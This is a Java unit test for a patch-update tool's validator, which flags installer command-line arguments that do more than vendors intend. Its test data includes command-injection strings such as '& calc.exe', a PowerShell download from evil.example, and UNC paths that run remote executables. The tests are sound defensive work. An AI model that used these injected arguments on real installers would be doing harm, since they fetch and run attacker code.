package io.patchbay.sync.review;

import static org.junit.jupiter.api.Assertions.assertEquals;

import io.patchbay.model.ContentFile;
import io.patchbay.model.ContentFile.Patching;
import io.patchbay.model.Installation;
import io.patchbay.model.Installation.Handler;
import io.patchbay.model.Installation.Reboot;
import io.patchbay.model.Update;
import io.patchbay.model.UpdateId;
import io.patchbay.model.UpdateType;
import io.patchbay.sync.Objection;
import io.patchbay.sync.Objection.Code;
import java.util.List;
import java.util.Set;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CommandRulesTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "WD /q",
                "-s -e cmd.exe -a /c \"setup.exe\" -s",
                "/s /v\"/qn /l*v C:\\Temp\\a.log\"",
                "-f2%temp%\\a.log"
            })
    void publishesWhatVendorsWrite(String arguments) {
        assertEquals("", codes("setup.exe", "Setup.exe", arguments, null));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/s & calc.exe",
                "/s | more",
                "/s > C:\\Windows\\win.ini",
                "/s\ncalc",
                "/c \"powershell -c iwr https://evil.example/a -o a\"",
                "TRANSFORMS=\\\\evil.example\\a.mst",
                "-run \\\\evil.example\\a.exe",
                "url=FILE:///C:/a"
            })
    void holdsArgumentsThatDoMore(String arguments) {
        assertEquals("COMMAND_LINE_HANDLER", codes("setup.exe", "setup.exe", arguments, null));
        assertEquals("COMMAND_LINE_HANDLER", codes("setup.exe", "setup.exe", "", arguments));
    }

    @ParameterizedTest
    @ValueSource(strings = {"cmd.exe", "C:\\Windows\\System32\\setup.exe", "..\\setup.exe", "setup.exe /s"})
    void holdsAProgramThatTheUpdateDoesNotBring(String program) {
        assertEquals("COMMAND_LINE_HANDLER", codes("setup.exe", program, "/s", null));
    }

    @Test
    void takesAProgramToBeInTheArchive() {
        assertEquals("", codes("setup.cab", "install.exe", "/s", null));
    }

    @Test
    void holdsNothingWhenItIsTurnedOff() {
        Objections objections = new Objections(Set.of(Code.COMMAND_LINE_HANDLER));
        CommandRules.check(update("setup.exe", "cmd.exe", "", null), objections);
        assertEquals(List.of(), objections.found());
    }

    private static String codes(String file, String program, String arguments, String uninstall) {
        Objections objections = new Objections(Set.of());
        CommandRules.check(update(file, program, arguments, uninstall), objections);
        return objections.found().stream().map(Objection::code).map(Code::name).collect(Collectors.joining(","));
    }

    private static Update update(String file, String program, String arguments, String uninstall) {
        ContentFile content = new ContentFile(file, 1, List.of(), List.of(), null, Patching.SELF_CONTAINED);
        return Update.builder(UpdateId.of("vendor", "a"), UpdateType.SOFTWARE)
                .files(List.of(content), "catalog")
                .installation(
                        Installation.of(Handler.COMMAND_LINE, program, arguments, uninstall, List.of(), Reboot.NEVER),
                        "catalog")
                .build();
    }
}
